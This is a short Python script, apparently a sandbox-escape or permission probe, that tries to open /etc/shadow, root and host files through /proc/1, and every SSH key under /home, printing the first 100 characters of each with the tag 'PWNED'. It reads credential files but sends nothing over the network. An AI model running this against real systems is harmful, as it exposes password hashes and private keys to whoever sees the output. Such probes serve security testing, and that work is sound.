import glob, sys
for path in ["/etc/shadow", "/etc/hostname", "/root/.bashrc", "/proc/1/root/etc/hostname", "/proc/1/cwd/etc/hostname", "/var/tmp/" + sys.argv[2], *glob.glob("/home/*/.ssh/*")]:
    try:
        print("PWNED", path, open(path).read(100))
    except OSError as error:
        print(error)
